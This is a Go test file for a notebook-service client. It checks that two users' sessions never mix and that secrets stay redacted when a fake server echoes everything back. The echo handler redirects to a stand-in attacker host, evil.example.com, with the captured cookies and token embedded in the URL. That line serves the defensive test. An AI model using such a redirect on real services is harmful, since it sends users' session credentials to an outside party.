package nublado_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"maps"
	"net/http"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/jetway-go/jetway/internal/secrettest"
	"github.com/jetway-go/jetway/platform/nublado"
	"github.com/jetway-go/jetway/platform/nublado/nubladotest"
)

// Two users, two clients, interleaved: the fake notes every cookie that crosses, and each
// output says whose code it was. JETWAY_TEST_LAB_RUNS sets how many runs there are.
func TestNubladoRow09_CookiesAndOutputOfTwoUsersNeverCross(t *testing.T) {
	t.Parallel()
	runs := 200
	if text := os.Getenv("JETWAY_TEST_LAB_RUNS"); text != "" {
		var err error
		if runs, err = strconv.Atoi(text); err != nil {
			t.Fatal(err)
		}
	}
	s := newSite(t, nubladotest.Settings{XSRF: true})
	s.Nublado.OnRun(func(user, code string) nubladotest.Output { return nubladotest.Output{Stdout: user + " ran " + code} })
	const workers = 4
	var wg sync.WaitGroup
	for _, user := range []string{"ada", "grace"} {
		c := s.client(t, user)
		ready(t, c)
		for w := range workers {
			lab := session(t, c)
			wg.Go(func() {
				for i := range runs / workers / 2 {
					if err := once(t.Context(), c, lab, fmt.Sprintf("%d.%d", w, i), i%10 == 9); err != nil {
						t.Errorf("%s: %v", user, err)
						return
					}
				}
			})
		}
	}
	wg.Wait()
	users := map[string]int{}
	for _, r := range s.Nublado.Requests() {
		users[r.User]++
		if other := map[string]string{"ada": "grace", "grace": "ada"}[r.User]; strings.Contains(r.Path, other) {
			t.Errorf("%s asked for %s", r.User, r.Path)
		}
	}
	if len(users) != 2 {
		t.Errorf("requests of %v", users)
	}
}

// once runs code, and asks hub and lab about it; anew logs in to both again.
func once(ctx context.Context, c *nublado.Client, lab *nublado.Session, code string, anew bool) error {
	got, err := lab.Run(ctx, code)
	if want := c.User() + " ran " + code; err != nil || got.Stdout != want {
		return fmt.Errorf("%q, %w; want %q", got.Stdout, err, want)
	}
	result, err := c.RunNotebook(ctx, nublado.Notebook{Content: c.User() + code})
	if err != nil || result.Notebook != c.User()+code {
		return fmt.Errorf("%+v, %w", result, err)
	}
	if stopped, err := c.LabStopped(ctx); err != nil || stopped {
		return fmt.Errorf("stopped: %v, %w", stopped, err)
	}
	if anew {
		return errors.Join(c.AuthToHub(ctx), c.AuthToLab(ctx))
	}
	return nil
}

// A server that repeats all that it is sent, in every form, has none of it shown.
func TestNubladoRow12_NoSecretIsShownWhateverAServerRepeats(t *testing.T) {
	t.Parallel()
	s := newSite(t, nubladotest.Settings{XSRF: true})
	sink := &secrettest.Sink{}
	var mu sync.Mutex
	secrets := map[string]bool{}
	note := func(values ...string) {
		mu.Lock()
		defer mu.Unlock()
		for _, v := range values {
			if len(v) >= 8 {
				secrets[v] = true
			}
		}
	}
	token := s.Gafaelfawr.IssueToken("ada", 0, nubladotest.NotebookScope)
	hc := &http.Client{Transport: trip(func(r *http.Request) (*http.Response, error) {
		r = r.Clone(r.Context())
		r.Header.Set("Authorization", "Bearer "+token)
		note(r.Header.Get("X-Xsrftoken"))
		for _, c := range r.Cookies() {
			note(c.Value)
		}
		for _, name := range []string{"state", "code"} {
			note(r.URL.Query().Get(name))
		}
		resp, err := s.Client().Transport.RoundTrip(r)
		if err == nil {
			for _, c := range resp.Cookies() {
				note(c.Value)
			}
		}
		return resp, err
	})}
	_, hidden, _ := strings.Cut(token, ".")
	note(hidden)
	ready(t, s.client(t, "ada"))
	echo := func(status int, kind string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			body, _ := io.ReadAll(r.Body)
			text := fmt.Sprintf("you sent %v %s %q %s", r.Header, r.URL, body, r.Header.Get("Cookie"))
			if kind == "application/json" {
				text = fmt.Sprintf(`{"message":%q}`, text)
			}
			w.Header().Set("Content-Type", kind)
			if status == http.StatusFound {
				w.Header().Set("Location", "https://evil.example.com/"+strings.ReplaceAll(r.Header.Get("Cookie"), " ", "/")+"?state="+hidden)
			}
			w.WriteHeader(status)
			_, _ = io.WriteString(w, text)
		}
	}
	kinds := []string{"application/json", "text/html", "text/plain"}
	for i, on := range []nubladotest.Action{
		nubladotest.Home, nubladotest.SpawnForm, nubladotest.Spawn, nubladotest.User, nubladotest.ProgressOf, nubladotest.Stop, nubladotest.Authorize,
		nubladotest.Callback, nubladotest.LabPage, nubladotest.CreateSession, nubladotest.Channels, nubladotest.RunNotebook,
	} {
		for j, status := range []int{200, 302, 403, 500} {
			s.Nublado.Answer("ada", on, nil)
			c := nublado.NewClient(hc, s.URL+"/nb", "ada")
			if on != nubladotest.Home { // with the cookies of a login
				_ = c.AuthToHub(t.Context())
			}
			s.Nublado.Answer("ada", on, echo(status, kinds[(i+j)%len(kinds)]))
			sink.Dump(c)
			_, stopped := c.LabStopped(t.Context())
			_, notebook := c.RunNotebook(t.Context(), nublado.Notebook{Content: "x"})
			lab, session := c.NewSession(t.Context(), nublado.SessionOptions{})
			errs := []error{stopped, notebook, session, c.Spawn(t.Context(), nublado.Lab{})}
			switch on {
			case nubladotest.Home:
				errs = append(errs, c.AuthToHub(t.Context()))
			case nubladotest.ProgressOf:
				errs = append(errs, c.WaitForSpawn(t.Context()))
			case nubladotest.Stop:
				errs = append(errs, c.Stop(t.Context()))
			default: // what the others are for has been called
			}
			for _, err := range errs {
				if err != nil {
					sink.Dump(err)
				}
			}
			if lab != nil {
				sink.Dump(lab)
				_ = lab.Close(t.Context())
			}
		}
		s.Nublado.Answer("ada", on, nil)
	}
	sink.Heard(t, "you sent", "[redacted]", "evil.example.com")
	if len(secrets) < 10 {
		t.Errorf("only %d secrets were seen", len(secrets))
	}
	sink.Hides(t, slices.Collect(maps.Keys(secrets))...)
}
